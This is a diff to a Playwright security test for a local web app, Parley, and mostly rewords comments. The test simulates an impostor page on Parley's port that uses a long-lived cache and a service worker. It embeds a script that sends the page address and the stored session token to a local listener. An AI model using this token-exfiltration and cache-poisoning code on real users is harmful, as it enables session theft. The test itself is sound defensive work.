@@ -1,4 +1,7 @@
-/** Another user of the machine held the port while Parley wasn't running, and left what it could in the person's browser. */
+/**
+ * Another user of the machine held the port while Parley wasn't running, and left what it could in the person's
+ * browser.
+ */
 import { once } from 'node:events'
 import { readdirSync } from 'node:fs'
 import { mkdtemp, rm } from 'node:fs/promises'
@@ -12,7 +15,7 @@ import { HostProcess } from './lib/host-process.ts'
 
 let folder: string
 let host: HostProcess
-/** Where the impostor hears what its code found. */
+/** Receives what the impostor's code has found. */
 let ear: Server
 let heard: string[]
 
@@ -50,7 +53,10 @@ async function close(server: Server): Promise<void> {
 
 const portOf = (server: Server): number => (server.address() as AddressInfo).port
 
-/** Tells the impostor where it runs and what it finds there: a code or token in the address or in the session. No policy keeps a page from leaving. */
+/**
+ * Reports to the impostor what its code finds: a code or token in the address or in the session. No policy keeps a page
+ * from navigating away.
+ */
 const spy = (how: string) =>
   `location.href = 'http://127.0.0.1:${portOf(ear)}/' + encodeURIComponent('${how} ' + location.href + ' ' + sessionStorage.getItem('parley.token'))`
 
@@ -58,7 +64,7 @@ const ASSETS = readdirSync(inProject('dist/renderer/assets'))
   .filter((name) => name.endsWith('.js'))
   .map((name) => `/assets/${name}`)
 
-/** An impostor's page at this port: what it serves is kept for a year. */
+/** An impostor's page on this port: the browser caches its responses for a year. */
 function impostor(port: number, withWorker: boolean): Promise<Server> {
   const evil = `<!doctype html><title>Evil</title><script>${spy('page')}</script>`
   const worker = `
@@ -87,7 +93,7 @@ function impostor(port: number, withWorker: boolean): Promise<Server> {
   })
 }
 
-/** Leads the person's browser to what has Parley's port now, as a tab that was left open does. */
+/** Opens the impostor on Parley's port in the person's browser, as an old tab does. */
 async function poison(context: BrowserContext, withWorker: boolean): Promise<Page> {
   await host.start()
   const port = Number(host.address.port)
@@ -118,7 +124,7 @@ for (const withWorker of [true, false]) {
       }))
       expect(kept).toEqual({ workers: 0, values: 0 })
     }
-    // The tab that it had stays what it was, and is Parley's once it's loaded again.
+    // The old tab stays the impostor's, and is Parley's once it's reloaded.
     expect(await left.title()).toBe('Ready')
     await page.reload()
     await expectParley(page)
@@ -126,7 +132,7 @@ for (const withWorker of [true, false]) {
   })
 }
 
-test('a window stays in through a reload when another one was opened since', async ({ context, page }) => {
+test('a window stays signed in after a reload, even if another one was opened since', async ({ context, page }) => {
   await host.start()
   await page.goto(host.printed.href)
   await expectParley(page)
